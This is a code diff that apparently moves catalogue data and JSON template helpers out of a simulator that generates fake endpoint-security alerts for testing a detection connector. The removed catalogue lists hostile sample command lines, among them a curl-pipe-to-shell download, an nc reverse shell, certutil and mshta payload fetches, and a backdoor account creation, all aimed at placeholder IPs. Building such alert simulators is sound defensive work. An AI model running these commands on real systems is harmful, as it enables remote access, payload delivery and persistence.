@@ -10,7 +10,6 @@ import functools
 import hashlib
 import logging
 import random
-import re
 import threading
 import time
 from datetime import datetime
@@ -18,6 +17,24 @@ from typing import Any
 
 import orjson
 
+from connector.simulator.catalogue import (
+    DOC_NAMES,
+    LABELS,
+    LNX_FILES,
+    LNX_LEAVES,
+    LNX_OS,
+    LNX_PARENTS,
+    LNX_ROOTS,
+    REMOTE_PORTS,
+    TECHNIQUES,
+    USERS,
+    WIN_FILES,
+    WIN_LEAVES,
+    WIN_OS,
+    WIN_PARENTS,
+    WIN_ROOTS,
+)
+from connector.simulator.details import _SLOTS, compile_template, details_tree, json_cached, json_text, process_nodes
 from connector.timeutil import parse_ts
 
 log = logging.getLogger(__name__)
@@ -92,138 +109,6 @@ def to_ms(value: datetime | str | float | int) -> int:
 
 def now_ms() -> int:
     return time.time_ns() // 1_000_000
-
-
-# ---------------------------------------------------------------------------------------------------
-# Catalogues: realistic binaries, parents, files, intel, labels.
-
-_WIN_LEAVES = [
-    (
-        "powershell.exe",
-        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}",
-    ),
-    ("cmd.exe", r"C:\Windows\System32\cmd.exe", 'cmd.exe /c "whoami /all > %TEMP%\\{n}.txt"'),
-    ("rundll32.exe", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\ProgramData\{n}\update.dll,DllRegister"),
-    (
-        "regsvr32.exe",
-        r"C:\Windows\System32\regsvr32.exe",
-        "regsvr32.exe /s /n /u /i:http://198.51.100.{o}/a.sct scrobj.dll",
-    ),
-    ("mshta.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://203.0.113.{o}/payload.hta"),
-    (
-        "certutil.exe",
-        r"C:\Windows\System32\certutil.exe",
-        r"certutil.exe -urlcache -split -f http://192.0.2.{o}/tool.exe C:\Users\Public\{n}.exe",
-    ),
-    ("wscript.exe", r"C:\Windows\System32\wscript.exe", r"wscript.exe //B C:\Users\Public\{n}.vbs"),
-    (
-        "schtasks.exe",
-        r"C:\Windows\System32\schtasks.exe",
-        r'schtasks.exe /create /sc minute /mo 15 /tn "Updater{n}" /tr C:\ProgramData\{n}\svc.exe',
-    ),
-    (
-        "msedge.exe",
-        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
-        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window',
-    ),
-    ("net.exe", r"C:\Windows\System32\net.exe", "net.exe user backup{n} P@ssw0rd! /add"),
-]
-_WIN_PARENTS = [
-    (
-        "WINWORD.EXE",
-        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
-        r'"WINWORD.EXE" /n "C:\Users\{u}\Downloads\invoice_{n}.docm"',
-    ),
-    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", '"OUTLOOK.EXE"'),
-    ("explorer.exe", r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
-    ("WmiPrvSE.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"),
-    ("svchost.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
-]
-_WIN_ROOTS = [
-    ("userinit.exe", r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe"),
-    ("services.exe", r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
-]
-_LNX_LEAVES = [
-    ("bash", "/usr/bin/bash", "bash -c 'curl -fsSL http://198.51.100.{o}/i.sh | sh'"),
-    ("curl", "/usr/bin/curl", "curl -o /tmp/.{n} http://203.0.113.{o}/x"),
-    (
-        "python3",
-        "/usr/bin/python3.11",
-        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.{o}\",4444))'",
-    ),
-    ("nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh 192.0.2.{o} 4444"),
-    ("crontab", "/usr/bin/crontab", "crontab /tmp/.cron{n}"),
-]
-_LNX_PARENTS = [
-    ("sshd", "/usr/sbin/sshd", "sshd: {u} [priv]"),
-    ("apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"),
-    ("bash", "/usr/bin/bash", "-bash"),
-]
-_LNX_ROOTS = [("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash")]
-_WIN_FILES = [
-    r"C:\Users\{u}\Downloads\invoice_{n}.zip.exe",
-    r"C:\ProgramData\{n}\svc.dll",
-    r"C:\Users\{u}\AppData\Local\Temp\{n}.tmp.exe",
-    r"C:\Windows\Temp\eicar_{n}.com",
-]
-_LNX_FILES = ["/tmp/.x{n}/kworker", "/var/tmp/{n}.so", "/dev/shm/.{n}", "/tmp/verybadvirus{n}.vrs"]
-_USERS = ["jdoe", "asmith", "mgarcia", "lchen", "kpatel", "svc_backup", "rwilson", "tnguyen", "admin.ops"]
-_REMOTE_PORTS = [443, 80, 4444, 8080, 22, 3389, 445, 53, 8443]
-_WIN_OS = [
-    ("Microsoft Windows 11 Pro", "10.0.22621.0.0", "22621"),
-    ("Microsoft Windows 10 Enterprise", "10.0.19045.0.0", "19045"),
-    ("Microsoft Windows Server 2019 Datacenter", "10.0.17763.0.0", "17763"),
-]
-_LNX_OS = [("Ubuntu 22.04.4 LTS", None, None), ("Red Hat Enterprise Linux 9.3", None, None)]
-_SIGNERS = [
-    ("Microsoft Windows Production PCA 2011", "Microsoft Windows"),
-    ("Microsoft Code Signing PCA 2011", "Microsoft Corporation"),
-]
-
-_TECHNIQUES = [
-    ("T1059.001", "Command and Scripting Interpreter: PowerShell"),
-    ("T1218.011", "System Binary Proxy Execution: Rundll32"),
-    ("T1218.010", "System Binary Proxy Execution: Regsvr32"),
-    ("T1218.005", "System Binary Proxy Execution: Mshta"),
-    ("T1105", "Ingress Tool Transfer"),
-    ("T1053.005", "Scheduled Task/Job: Scheduled Task"),
-    ("T1136.001", "Create Account: Local Account"),
-    ("T1204.002", "User Execution: Malicious File"),
-    ("T1071.001", "Application Layer Protocol: Web Protocols"),
-    ("T1033", "System Owner/User Discovery"),
-    ("T1134.002", "Access Token Manipulation: Create Process with Token"),
-    ("T1055", "Process Injection"),
-    ("T1055.012", "Process Injection: Process Hollowing"),
-    ("T1027", "Obfuscated Files or Information"),
-]
-LABELS = [
-    (1, "Ransomware"),
-    (2, "Lateral Movement"),
-    (3, "Credential Access"),
-    (4, "Persistence"),
-    (5, "Living off the Land"),
-    (6, "Command and Control"),
-    (7, "Initial Access"),
-    (8, "High Fidelity"),
-]
-SOURCES = {1: "Tanium Signals", 2: "Custom Intel", 3: "Mandiant Indicators", 4: "YARA Rules", 6: "Process Injection"}
-_DOC_NAMES = {
-    "tanium-signal": [
-        "Suspicious PowerShell Encoded Command",
-        "Office Spawned Script Interpreter",
-        "Rundll32 Loading DLL From ProgramData",
-        "Regsvr32 Remote Scriptlet Execution",
-        "Certutil Download",
-        "Scheduled Task Created From Temp",
-        "Local Account Created",
-        "Reverse Shell Network Connection",
-        "Outbound Connection To Rare Port",
-    ],
-    "openioc": ["APT Dropper Hashes", "Commodity Loader IOC", "ELK - Linux Test Alert /tmp file"],
-    "yara": ["Cobalt Strike Beacon", "Mimikatz Strings", "Webshell Generic"],
-    "processInjection": ["Process Injection Intel"],
-}
 
 
 class _Doc:
@@ -332,12 +217,12 @@ class _Host:
         self.name = f"{role}-{j + 1:04d}.corp.local"
         self.ip = f"10.{20 + j // 250}.{j % 250}.{10 + (h >> 8) % 240}"
         self.eid = 1000 + j
-        os_name, patch, build = (_WIN_OS if self.windows else _LNX_OS)[(h >> 16) % 3 if self.windows else (h >> 16) % 2]
+        os_name, patch, build = (WIN_OS if self.windows else LNX_OS)[(h >> 16) % 3 if self.windows else (h >> 16) % 2]
         self.system_info = {"os": os_name, "bits": 64, "platform": "Windows" if self.windows else "Linux"}
         if patch:
             self.system_info.update(patch_level=patch, build_number=build)
         self.system_info_json = orjson.dumps(self.system_info).decode()
-        self.users = [_USERS[(h >> (20 + 4 * k)) % len(_USERS)] for k in range(2)]
+        self.users = [USERS[(h >> (20 + 4 * k)) % len(USERS)] for k in range(2)]
         self.domain = "CORP" if self.windows else ""
 
 
@@ -374,7 +259,7 @@ class Data:
         total = sum(raw)
         for k in range(max(1, n_docs)):
             kind = kinds[k % len(kinds)]
-            names = _DOC_NAMES[kind]
+            names = DOC_NAMES[kind]
             name = names[(k // len(kinds)) % len(names)]
             if k >= len(kinds) * len(names):
                 name = f"{name} #{k}"
@@ -385,9 +270,9 @@ class Data:
             h = mix_hash(seed, k, 5)
             techniques = None
             if kind == "processInjection":
-                techniques = [_TECHNIQUES[11], _TECHNIQUES[12]]
+                techniques = [TECHNIQUES[11], TECHNIQUES[12]]
             elif kind != "openioc" or k % 2:
-                techniques = [_TECHNIQUES[(h >> (8 * i)) % len(_TECHNIQUES)] for i in range(1 + h % 2)]
+                techniques = [TECHNIQUES[(h >> (8 * i)) % len(TECHNIQUES)] for i in range(1 + h % 2)]
                 techniques = list(dict.fromkeys(techniques))
             labels = sorted({LABELS[(h >> (3 * i + 30)) % len(LABELS)][0] for i in range(h % 4)})
             source = {"tanium-signal": 1, "openioc": 3, "yara": 4, "processInjection": 6}[kind]
@@ -488,7 +373,7 @@ class Data:
         match_type = ov.get("match_type", doc.match_type)
         leaf = self._leaf(doc, h2)
         if match_type == "file":
-            tmpl = (_WIN_FILES if doc.windows else _LNX_FILES)[(h2 >> 8) % 4]
+            tmpl = (WIN_FILES if doc.windows else LNX_FILES)[(h2 >> 8) % 4]
             path = tmpl.format(u=host.users[(h2 >> 12) & 1], n=(h2 >> 16) % 100_000)
         else:
             path = leaf[1]
@@ -546,7 +431,7 @@ class Data:
         }
 
     def _leaf(self, doc: _Doc, h2: int) -> tuple[str, str, str]:
-        leaves = _WIN_LEAVES if doc.windows else _LNX_LEAVES
+        leaves = WIN_LEAVES if doc.windows else LNX_LEAVES
         if doc.match_type == "port":  # network-capable binaries
             leaves = [leaves[i] for i in ((0, 3, 4, 5, 8) if doc.windows else (1, 2, 3))]
         return leaves[(doc.id + (h2 & 3)) % len(leaves)]
@@ -561,7 +446,7 @@ class Data:
         shape = (doc.windows, top["matchType"], doc.kind == "processInjection")
         tmpl = self._templates.get(shape)
         if tmpl is None:
-            tmpl = self._templates[shape] = _compile(_details_tree(shape, _SLOTS))
+            tmpl = self._templates[shape] = compile_template(details_tree(shape, _SLOTS))
         return tmpl.format_map(self._detail_values(top, doc, ov, alerted_ms))
 
     def _detail_values(self, top: dict, doc: _Doc, ov: dict, alerted_ms: int) -> dict[str, str]:
@@ -576,7 +461,7 @@ class Data:
         leaf_path = top["path"] if top["matchType"] != "file" else leaf[1]
         n, o = int(rand() * 100_000), 1 + int(rand() * 249)
         md5, sha1, sha256 = self.hashes(leaf_path)
-        j, jc = _json, _json_cached
+        j, jc = json_text, json_cached
         v = {
             "domain": jc(host.domain),
             "match_hash": f'"{bits(63)}"',
@@ -635,7 +520,7 @@ class Data:
             local_ip=j(ov.get("local_ip", top["computerIpAddress"])),
             remote_ip=j(ov.get("remote_ip", f"203.0.113.{o}")),
             local_port=j(ov.get("local_port", 49152 + int(rand() * 16383))),
-            remote_port=j(ov.get("remote_port", _REMOTE_PORTS[int(rand() * len(_REMOTE_PORTS))])),
+            remote_port=j(ov.get("remote_port", REMOTE_PORTS[int(rand() * len(REMOTE_PORTS))])),
         )
         return v
 
@@ -647,7 +532,7 @@ class Data:
         if got is not None:
             return got
         rng = random.Random(mix_hash(self.seed, host.eid, variant))
-        parents, roots = (_WIN_PARENTS, _WIN_ROOTS) if host.windows else (_LNX_PARENTS, _LNX_ROOTS)
+        parents, roots = (WIN_PARENTS, WIN_ROOTS) if host.windows else (LNX_PARENTS, LNX_ROOTS)
         user = "NT AUTHORITY\\SYSTEM" if host.windows else "root"
         t = self.start_ms - rng.randrange(3_600_000, 30 * 86_400_000)
         v: dict[str, Any] = {"domain": host.domain}
@@ -676,9 +561,9 @@ class Data:
                 }
             )
             pid_parent = pid
-        root = _process_nodes(v, 2, host.windows, None, None)
-        parent = _process_nodes(v, 1, host.windows, root[0], root[1])
-        got = {"props_parent": _json(parent[0]), "acting_parent": _json(parent[1]), "pid1": str(v["pid1"])}
+        root = process_nodes(v, 2, host.windows, None, None)
+        parent = process_nodes(v, 1, host.windows, root[0], root[1])
+        got = {"props_parent": json_text(parent[0]), "acting_parent": json_text(parent[1]), "pid1": str(v["pid1"])}
         self._ancestries[key] = got
         return got
 
@@ -697,182 +582,6 @@ class Data:
         if doc:
             doc.extra_alerts += 1
         return top
-
-
-class _SlotNames(dict):
-    """In template mode every value is a sentinel naming its slot."""
-
-    def __missing__(self, key: str) -> str:
-        return f"\x00{key}\x00"
-
-
-_SLOTS = _SlotNames()
-_SENTINEL = re.compile(r'"\\u0000([A-Za-z0-9_]+)\\u0000"')
-
-
-def _compile(tree: dict) -> str:
-    """JSON text of a sentinel tree → a str.format template with one {slot} per sentinel."""
-    text = orjson.dumps(tree).decode().replace("{", "{{").replace("}", "}}")
-    return _SENTINEL.sub(r"{\1}", text)
-
-
-def _json(value: Any) -> str:
-    return orjson.dumps(value).decode()
-
-
-@functools.lru_cache(maxsize=4096)
-def _json_cached(value: str) -> str:  # catalogue strings: paths, names, users
-    return orjson.dumps(value).decode()
-
-
-def _process_nodes(v: dict, k: int, windows: bool, props_parent: Any, acting_parent: Any) -> tuple[dict, dict]:
-    """Process number k of a chain in its two shapes: `match.properties` and `acting_artifact.process`."""
-    node = {
-        "pid": v[f"pid{k}"],
-        "args": v[f"args{k}"],
-        "file": {"md5": v[f"md5{k}"], "sha1": v[f"sha1{k}"], "sha256": v[f"sha256{k}"], "fullpath": v[f"path{k}"]},
-        "name": v[f"name{k}"],
-        "ppid": v[f"ppid{k}"],
-        "user": v[f"user{k}"],
-        "start_time": v[f"start{k}"],
-        "recorder_unique_id": v[f"uid{k}"],
-    }
-    if props_parent is not None:
-        node["parent"] = props_parent
-    ffile = {"hash": {"md5": v[f"md5{k}"], "sha1": v[f"sha1{k}"], "sha256": v[f"sha256{k}"]}, "path": v[f"path{k}"]}
-    if windows:
-        issuer, subject = _SIGNERS[k % 2]
-        ffile["signature_data"] = {"issuer": issuer, "status": 1, "subject": subject}
-    art = {
-        "pid": v[f"pid{k}"],
-        "file": {"file": ffile, "artifact_hash": v[f"ah{k}"], "instance_hash": v[f"ih{k}"]},
-        "user": {"user": {"name": v[f"uname{k}"], "domain": v["domain"], "user_id": str(1000 + k)}},
-        "handles": [],
-        "arguments": v[f"args{k}"],
-        "start_time": v[f"start{k}"],
-        "tanium_unique_id": v[f"uid{k}"],
-    }
-    if acting_parent is not None:
-        art["parent"] = {"process": acting_parent}
-    return node, art
-
-
-def _details_tree(shape: tuple[bool, str, bool], v: dict) -> dict:
-    """The structure of `details` for (windows, matchType, processInjection), filled from `v`."""
-    windows, mt, injection = shape
-    # the leaf process; its ancestors arrive as ready JSON (see Data._ancestry)
-    props, acting = _process_nodes(v, 0, windows, v["props_parent"], v["acting_parent"])
-    intra = [{"id_v2": v["intra"]}]
-    if mt == "file":
-        fhash = {"md5": v["fmd5"], "sha1": v["fsha1"], "sha256": v["fsha256"]}
-        match = {
-            "hash": v["match_hash"],
-            "type": "file",
-            "source": "at_rest",
-            "version": 1,
-            "properties": {**fhash, "size": v["fsize"], "fullpath": v["fpath"]},
-        }
-        what = {
-            "source_name": "at_rest",
-            "intel_intra_ids": intra,
-            "artifact_activity": {
-                "relevant_actions": [
-                    {
-                        "target": {
-                            "file": {"hash": fhash, "path": v["fpath"], "size_bytes": v["fsize"]},
-                            "artifact_hash": v["match_hash"],
-                            "instance_hash": v["ih"],
-                            "is_intel_target": True,
-                        }
-                    }
-                ]
-            },
-        }
-    else:
-        if mt == "port":
-            proc = {k: x for k, x in props.items() if k not in ("parent", "recorder_unique_id")}
-            proc["recorder_table_id"] = v["uid0"]
-            net = {
-                "local_ip": v["local_ip"],
-                "remote_ip": v["remote_ip"],
-                "local_port": v["local_port"],
-                "remote_port": v["remote_port"],
-            }
-            match = {
-                "hash": v["match_hash"],
-                "type": "port",
-                "source": "threatresponse_database",
-                "version": 1,
-                "properties": {"process": proc, **net},
-            }
-            action = {"verb": 4, "target": {"network": {**net, "protocol": "tcp"}}, "timestamp": v["ts"]}
-        else:
-            match = {
-                "hash": v["match_hash"],
-                "type": "process",
-                "source": "recorder",
-                "version": 1,
-                "contexts": [
-                    {
-                        "file": {"uniqueEventId": v["event_id"]},
-                        "event": {"fileCreate": {"path": v["target"]}, "timestampMs": v["ts_ms"]},
-                    }
-                ],
-                "properties": props,
-            }
-            action = {
-                "verb": 7,
-                "target": {"file": {"path": v["target"]}, "artifact_hash": v["ah"], "instance_hash": v["ih2"]},
-                "timestamp": v["ts"],
-                "tanium_recorder_context": {
-                    "file": {"unique_event_id": v["event_id"]},
-                    "event": {"file_create": {"path": v["target"]}, "timestamp_ms": v["ts_ms"]},
-                },
-                "tanium_recorder_event_table_id": v["event_id"],
-            }
-        what = {
-            "source_name": "recorder",
-            "intel_intra_ids": intra,
-            "artifact_activity": {
-                "acting_artifact": {
-                    "process": acting,
-                    "artifact_hash": v["match_hash"],
-                    "instance_hash": v["ih"],
-                    "is_intel_target": True,
-                },
-                "relevant_actions": [action],
-            },
-        }
-        if injection:
-            what["intel_intra_ids"] = []
-            what["security_event"] = {"timestamp": v["alerted"], "type_identifier": "Thread"}
-            what["additional_fields"] = {
-                "technique": "Thread",
-                "execution_target_name": "LoadLibraryW",
-                "execution_target_address": v["address"],
-            }
-    finding = {
-        "whats": [what],
-        "domain": "threatresponse",
-        "hunt_id": v["hunt_id"],
-        "intel_id": v["finding_intel_id"],
-        "last_seen": v["seen"],
-        "threat_id": v["threat_id"],
-        "finding_id": v["finding_id"],
-        "first_seen": v["seen"],
-        "source_name": what["source_name"],
-        "system_info": v["system_info"],
-        "reporting_id": v["reporting_id"],
-    }
-    if injection:
-        finding["description"] = "Thread"
-    return {
-        "match": match,
-        "finding": finding,
-        "intel_id": v["intel_id"],
-        "config_id": v["config_id"],
-        "config_rev_id": v["config_rev_id"],
-    }
 
 
 class _CreatedView:
